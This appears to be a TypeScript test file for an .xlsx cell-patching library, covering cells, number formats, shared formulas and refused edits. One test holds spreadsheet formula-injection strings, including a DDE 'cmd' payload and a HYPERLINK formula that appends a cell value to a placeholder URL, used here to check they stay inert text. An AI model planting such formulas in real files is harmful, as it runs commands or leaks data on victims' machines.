import { readWorkbook } from "../../../src/xlsx";
import { patchWorkbook, PatchRefused } from "../../../src/xlsx/patch";
import type { CellContent, Edit } from "../../../src/workbook/edits";
import { inverse } from "../../../src/workbook/edits";
import { parseAddress } from "../../../src/workbook/address";
import { changedParts, partsOf, sampleBytes, workbookFile } from "../files";
import { readers } from "../readers";
import fc from "../../support/property";

function edit(address: string, before: CellContent, after: CellContent, numberFormat?: string): Edit {
  const [sheet = "", local = ""] = address.split("!");
  const place = parseAddress(local);
  if (!place) throw new Error(address);
  const cell = { sheet, row: place.row, column: place.column };
  return {
    cell,
    before: { content: before },
    after: { content: after, ...(numberFormat === undefined ? {} : { numberFormat }) },
  };
}

const cellIn = (bytes: Uint8Array, address: string) => {
  const { cell } = edit(address, null, null);
  const sheet = readWorkbook(bytes, "a.xlsx").sheets.find(({ name }) => name === cell.sheet);
  return sheet?.grid.cell(cell.row, cell.column);
};
const sheetXml = (bytes: Uint8Array): string =>
  (partsOf(bytes)["xl/worksheets/sheet1.xml"] ?? "").replace(/^.*?<worksheet[^>]*>|<\/worksheet>$/gsu, "");
const patched = (xml: string, ...edits: Edit[]): string => sheetXml(patchWorkbook(workbookFile({ 表1: xml }), edits));

function refusal(xml: string, ...edits: Edit[]): PatchRefused {
  try {
    patchWorkbook(workbookFile({ 表1: xml }), edits);
  } catch (error) {
    if (error instanceof PatchRefused) return error;
    throw error;
  }
  throw new Error("the edit was made");
}

describe("on the sample", () => {
  test("one amount changed leaves every other part of the file byte for byte as it was", () => {
    const before = sampleBytes();
    const after = patchWorkbook(before, [edit("表3!E12", 2204, 2204.01)]);
    expect(changedParts(before, after)).toEqual(["xl/worksheets/sheet3.xml"]);
    expect(cellIn(after, "表3!E12")).toEqual({
      value: 2204.01,
      text: "2,204.01",
      numberFormat: "#,##0.00",
      formula: null,
    });
  });

  test("within the sheet, only the named cell's text differs", () => {
    const before = partsOf(sampleBytes())["xl/worksheets/sheet3.xml"] ?? "";
    const after =
      partsOf(patchWorkbook(sampleBytes(), [edit("表3!E12", 2204, 2204.01)]))["xl/worksheets/sheet3.xml"] ?? "";
    expect(after.replace("<v>2204.01</v>", "<v>2204</v>")).toBe(before);
  });

  test("the parts keep their order, so that the file begins as a workbook must", () => {
    const after = patchWorkbook(sampleBytes(), [edit("表3!E12", 2204, 1)]);
    expect(Object.keys(partsOf(after))).toEqual(Object.keys(partsOf(sampleBytes())));
  });

  test("no edits change no part", () => {
    expect(changedParts(sampleBytes(), patchWorkbook(sampleBytes(), []))).toEqual([]);
  });

  test("an edit and its inverse give back every value and format", () => {
    const amount = edit("表5!G12", 2204, "２２０４", "@");
    const edits = [
      { ...amount, before: { ...amount.before, numberFormat: "#,##0.00" } },
      edit("表1!A6", "一、本年收入", "本年收入"),
    ];
    const back = patchWorkbook(patchWorkbook(sampleBytes(), edits), inverse(edits));
    for (const address of ["表5!G12", "表1!A6"]) expect(cellIn(back, address)).toEqual(cellIn(sampleBytes(), address));
  });

  test("every reader at hand opens the result and shows what was written", () => {
    const after = patchWorkbook(sampleBytes(), [
      edit("表3!E12", 2204, 2204.01),
      edit("表10!A20", null, "注：含＜公务＞ & 接待"),
      edit("表2!E7", 17690.9, 17690.9, "0.000"),
    ]);
    const shown = readers().map((reader) => reader(after));
    for (const sheets of shown) {
      expect(sheets("表3")[11]).toBe('201,06,02,一般行政管理事务,"2,204.01",,"2,204.00"');
      expect(sheets("表10")[19]).toContain("注：含＜公务＞ & 接待");
      expect(sheets("表2")[6]).toContain("17690.900");
    }
  }, 120_000);
});

describe("cells and rows", () => {
  const rows =
    '<sheetData><row r="2" spans="1:2"><c r="A2" s="1"><v>1</v></c><c r="C2"/></row><row r="4"/></sheetData>';

  test("a missing cell goes between its neighbours", () => {
    expect(patched(rows, edit("表1!B2", null, 5))).toBe(
      '<sheetData><row r="2"><c r="A2" s="1"><v>1</v></c><c r="B2"><v>5</v></c><c r="C2"/></row><row r="4"/></sheetData>',
    );
  });

  test("missing rows go between theirs, an empty row is opened, cells stand in order", () => {
    expect(
      patched(
        rows,
        edit("表1!B9", null, true),
        edit("表1!C3", null, 3),
        edit("表1!A3", null, "元"),
        edit("表1!D4", null, 4),
      ),
    ).toBe(
      '<sheetData><row r="2" spans="1:2"><c r="A2" s="1"><v>1</v></c><c r="C2"/></row><row r="3"><c r="A3" t="inlineStr"><is><t>元</t></is></c><c r="C3"><v>3</v></c></row><row r="4"><c r="D4"><v>4</v></c></row><row r="9"><c r="B9" t="b"><v>1</v></c></row></sheetData>',
    );
  });

  test("a sheet without rows gets one, and the stated extent grows", () => {
    expect(patched('<dimension ref="A1"/><sheetData/>', edit("表1!B2", null, 1))).toBe(
      '<dimension ref="A1:B2"/><sheetData><row r="2"><c r="B2"><v>1</v></c></row></sheetData>',
    );
  });

  test("a new cell takes the style of its row, else of its column", () => {
    const styled =
      '<cols><col min="2" max="3" style="1"/></cols><sheetData><row r="1" s="1" customFormat="1"/><row r="2"/></sheetData>';
    expect(
      patched(styled, edit("表1!A1", null, "元"), edit("表1!C2", null, "元"), edit("表1!D2", null, "元")),
    ).toContain(
      '<c r="A1" s="1" t="inlineStr"><is><t>元</t></is></c></row><row r="2"><c r="C2" s="1" t="inlineStr"><is><t>元</t></is></c><c r="D2" t="inlineStr">',
    );
  });

  test("emptying a cell keeps its style; emptying one that is not there adds nothing", () => {
    expect(patched(rows, edit("表1!A2", 1, null), edit("表1!Z99", null, null))).toContain(
      '<c r="A2" s="1"/><c r="C2"/>',
    );
    expect(patched(rows, edit("表1!Z99", null, null))).toBe(rows);
  });

  test("of two edits of a cell the later holds", () => {
    expect(patched(rows, edit("表1!A2", 1, 2), edit("表1!A2", 2, 3))).toContain("<v>3</v>");
  });

  test("cells without addresses keep their places", () => {
    expect(
      patched(
        "<sheetData><row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row></sheetData>",
        edit("表1!B1", 2, 5),
        edit("表1!A2", 3, 6),
      ),
    ).toBe('<sheetData><row><c><v>1</v></c><c r="B1"><v>5</v></c></row><row><c r="A2"><v>6</v></c></row></sheetData>');
  });

  test("comments, prefixes and quoted brackets are passed over", () => {
    const xml =
      '<!-- <c r="A1"> --><x:sheetData><x:row r="1" a="&gt;>"><x:c r="A1" t="s"><x:v>0</x:v></x:c></x:row></x:sheetData>';
    expect(patched(xml, edit("表1!A1", "x", "y"))).toBe(
      '<!-- <c r="A1"> --><x:sheetData><x:row r="1" a="&gt;>"><x:c r="A1" t="inlineStr"><x:is><x:t>y</x:t></x:is></x:c></x:row></x:sheetData>',
    );
  });

  test("every text comes back as it was written", () => {
    const anyText = fc
      .oneof(
        fc.string({ unit: "binary" }),
        fc.constantFrom(
          " 前后空格 ",
          "第一行\n第二行",
          "_x0041_",
          "a\u0001b",
          "半个\ud83d字\udc00",
          "\ufffe\uffff",
          "<&>\"'",
          "=1+1",
          "=",
          "+1",
          "-甲",
          "@SUM(A1)",
        ),
      )
      .filter((text) => text !== "" && !text.includes("\r"));
    fc.assert(
      fc.property(anyText, (text) =>
        expect(cellIn(patchWorkbook(workbookFile({ 表1: rows }), [edit("表1!A2", 1, text)]), "表1!A2")?.value).toBe(
          text,
        ),
      ),
      { numRuns: 60 },
    );
  });

  test.each([
    "=财政业务费",
    '=HYPERLINK("http://a.example/"&F12,"详情")',
    "=cmd|'/C calc'!A0",
    "+1",
    "-1",
    "@a",
    " =1+1",
    "＝1",
  ])("a text %j stays one, also when someone edits the cell in Excel; a formula in its place is one again", (text) => {
    const plain = '<sheetData><row r="2"><c r="A2"><v>1</v></c></row></sheetData>';
    const written = patchWorkbook(workbookFile({ 表1: plain }), [edit("表1!A2", 1, text)]);
    expect(sheetXml(written)).not.toContain("<f>");
    expect(cellIn(written, "表1!A2")).toMatchObject({ value: text, formula: null });
    expect(partsOf(written)["xl/styles.xml"]).toMatch(/<xf [^>]*numFmtId="0"[^>]*quotePrefix="1"/u);
    const formula = patchWorkbook(written, [edit("表1!A2", text, { formula: "=1+1" })]);
    expect(sheetXml(formula)).toContain("<f>1+1</f>");
    expect(partsOf(formula)["xl/styles.xml"]?.match(/<xf [^>]*>/gu)?.[3]).not.toContain("quotePrefix");
  });

  test("every finite number comes back as the same number", () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (number) =>
        expect(
          cellIn(patchWorkbook(workbookFile({ 表1: rows }), [edit("表1!A2", 1, number)]), "表1!A2")?.value,
        ).toBeCloseTo(number, 12),
      ),
      { numRuns: 60 },
    );
  });
});

describe("number formats", () => {
  const texts =
    '<sheetData><row r="1"><c r="A1" s="1" t="inlineStr"><is><t>1,234.50</t></is></c><c r="B1" s="1" t="inlineStr"><is><t>1</t></is></c></row></sheetData>';
  const styles = (bytes: Uint8Array): string => partsOf(bytes)["xl/styles.xml"] ?? "";

  test("a text turned into an amount keeps its other formats, and the mark of typed text goes", () => {
    const before = workbookFile({ 表1: texts });
    const after = patchWorkbook(before, [
      edit("表1!A1", "1,234.50", 1234.5, "#,##0.00"),
      edit("表1!B1", "1", 1, "#,##0.00"),
    ]);
    expect(changedParts(before, after)).toEqual(["xl/styles.xml", "xl/worksheets/sheet1.xml"]);
    expect(cellIn(after, "表1!A1")).toMatchObject({ value: 1234.5, text: "1,234.50", numberFormat: "#,##0.00" });
    expect(styles(after).replace(styles(before).slice(0, styles(before).indexOf("<cellXfs")), "")).toContain(
      '<cellXfs count="3"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="49" fontId="0" fillId="0" borderId="0" xfId="0" quotePrefix="1" applyNumberFormat="1"><alignment horizontal="left"/></xf><xf numFmtId="4" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"><alignment horizontal="left"/></xf></cellXfs>',
    );
    expect(sheetXml(after)).toContain('<c r="A1" s="2"><v>1234.5</v></c><c r="B1" s="2"><v>1</v></c>');
  });

  test("a format of its own is entered once", () => {
    const after = patchWorkbook(workbookFile({ 表1: texts }), [
      edit("表1!A1", "1,234.50", 1234.5, '0.0"万"'),
      edit("表1!B1", "1", 1, '0.0"万"'),
    ]);
    expect(styles(after).match(/<numFmt /gu)).toHaveLength(1);
    expect(styles(after)).toContain(
      '<numFmts count="1"><numFmt numFmtId="164" formatCode="0.0&quot;万&quot;"/></numFmts>',
    );
    expect(cellIn(after, "表1!A1")?.text).toBe("1234.5万");
  });

  test("the format alone changes where the content stays: a formula and its result, a text of several fonts", () => {
    const rich =
      '<sheetData><row r="1"><c r="A1"><f>1+1</f><v>2</v></c><c r="B1" t="inlineStr"><is><r><rPr><b/></rPr><t>元</t></r></is></c></row></sheetData>';
    const after = patchWorkbook(workbookFile({ 表1: rich }), [
      edit("表1!A1", { formula: "=1+1" }, { formula: "=1+1" }, "0.00"),
      edit("表1!B1", "元", "元", "@"),
    ]);
    expect(sheetXml(after)).toBe(
      rich.replace('r="A1"', 'r="A1" s="2"').replace('r="B1" t="inlineStr"', 'r="B1" t="inlineStr" s="3"'),
    );
  });

  test("a format the cell has already changes no part", () => {
    const bytes = workbookFile({ 表1: texts });
    expect(changedParts(bytes, patchWorkbook(bytes, [edit("表1!A1", "1,234.50", "1,234.50", "@")]))).toEqual([]);
  });
});

describe("formulas", () => {
  const shared =
    '<sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:A3" si="0">SUM(B1,$C$1,"B1")</f><v>1</v></c></row><row r="2"><c r="A2"><f t="shared" si="0"/><v>2</v></c></row><row r="3"><c r="A3"><f t="shared" si="0"/><v>3</v></c></row></sheetData>';
  const chained = (): Uint8Array => {
    const parts = partsOf(workbookFile({ 表1: shared }));
    const insert = (path: string, before: string, text: string): string =>
      (parts[path] ?? "").replace(before, text + before);
    return workbookFile(
      { 表1: shared },
      {
        "xl/calcChain.xml":
          '<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="A1" i="1"/></calcChain>',
        "[Content_Types].xml": insert(
          "[Content_Types].xml",
          "</Types>",
          '<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/>',
        ),
        "xl/_rels/workbook.xml.rels": insert(
          "xl/_rels/workbook.xml.rels",
          "</Relationships>",
          '<Relationship Id="rIdChain" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/calcChain" Target="calcChain.xml"/>',
        ),
      },
    );
  };

  test("an edit that does not know of the formula is refused with a sentence", () => {
    const error = refusal(shared, edit("表1!A2", 2, 5));
    expect(error.reason).toBe("formula");
    expect(error.sentence.zh).toBe("单元格表1!A2是公式，不能用数值覆盖，没有修改。请在Excel中核对该公式。");
  });

  test("replacing the first of shared formulas writes the others out", () => {
    const after = patchWorkbook(workbookFile({ 表1: shared }), [edit("表1!A1", { formula: '=SUM(B1,$C$1,"B1")' }, 7)]);
    expect(cellIn(after, "表1!A1")).toMatchObject({ value: 7, formula: null });
    expect(cellIn(after, "表1!A2")?.formula).toBe('=SUM(B2,$C$1,"B1")');
    expect(cellIn(after, "表1!A3")).toMatchObject({ value: 3, formula: '=SUM(B3,$C$1,"B1")' });
  });

  test("replacing another of them leaves the rest shared", () => {
    const after = patchWorkbook(workbookFile({ 表1: shared }), [edit("表1!A2", { formula: "=SUM(…)" }, null)]);
    expect(sheetXml(after)).toBe(shared.replace('<c r="A2"><f t="shared" si="0"/><v>2</v></c>', '<c r="A2"/>'));
  });

  test("where formulas depend on the cells, Excel is asked to work them out on opening", () => {
    const before = workbookFile({ 表1: shared });
    const after = patchWorkbook(before, [edit("表1!B1", null, 5)]);
    expect(changedParts(before, after)).toEqual(["xl/workbook.xml", "xl/worksheets/sheet1.xml"]);
    expect(partsOf(after)["xl/workbook.xml"]).toContain('</sheets><calcPr fullCalcOnLoad="1"/>');
    expect(changedParts(after, patchWorkbook(after, [edit("表1!B1", 5, 6)]))).toEqual(["xl/worksheets/sheet1.xml"]);
  });

  test("the order of calculation goes with a formula that goes, else it stays", () => {
    expect(Object.keys(partsOf(patchWorkbook(chained(), [edit("表1!B1", null, 5)])))).toContain("xl/calcChain.xml");
    const after = partsOf(patchWorkbook(chained(), [edit("表1!A1", { formula: "=SUM(…)" }, 7)]));
    expect(Object.keys(after)).not.toContain("xl/calcChain.xml");
    expect(after["[Content_Types].xml"]).not.toContain("calcChain");
    expect(after["xl/_rels/workbook.xml.rels"]).not.toContain("calcChain");
  });

  test("a formula can be written", () => {
    expect(
      cellIn(patchWorkbook(workbookFile({ 表1: shared }), [edit("表1!D9", null, { formula: '=A1&"<"' })]), "表1!D9")
        ?.formula,
    ).toBe('=A1&"<"');
  });

  test("a cell of an array formula is refused", () => {
    const array =
      '<sheetData><row r="1"><c r="A1"><f t="array" ref="A1:B1">C1:D1</f><v>1</v></c><c r="B1"><v>2</v></c></row></sheetData>';
    expect(refusal(array, edit("表1!B1", 2, 5)).reason).toBe("array-formula");
    expect(refusal(array, edit("表1!A1", { formula: "=C1:D1" }, 5)).reason).toBe("array-formula");
  });
});

describe("what is refused", () => {
  const merged =
    '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells count="1"><mergeCell ref="A1:C2"/></mergeCells>';

  test("a cell covered by a merged one, but not the merged cell itself", () => {
    expect(refusal(merged, edit("表1!B2", null, 5)).reason).toBe("covered-by-merge");
    expect(patched(merged, edit("表1!A1", 1, 5))).toContain("<v>5</v>");
  });

  test("a sheet the file does not have, a number that is none", () => {
    expect(refusal(merged, edit("表9!A1", null, 5)).sentence.zh).toContain("没有工作表“表9”");
    expect(refusal(merged, edit("表1!A1", 1, Infinity)).reason).toBe("not-a-content");
  });

  test("every refusal says in both languages that nothing was changed", () => {
    for (const error of [
      refusal(merged, edit("表1!B2", null, 5)),
      refusal(merged, edit("表9!A1", null, 5)),
      refusal(merged, edit("表1!A1", 1, NaN)),
    ]) {
      expect(error.sentence.zh).toMatch(/没有修改。.*。$/);
      expect(error.sentence.en).toMatch(/Nothing was changed\..*\.$/);
    }
  });
});
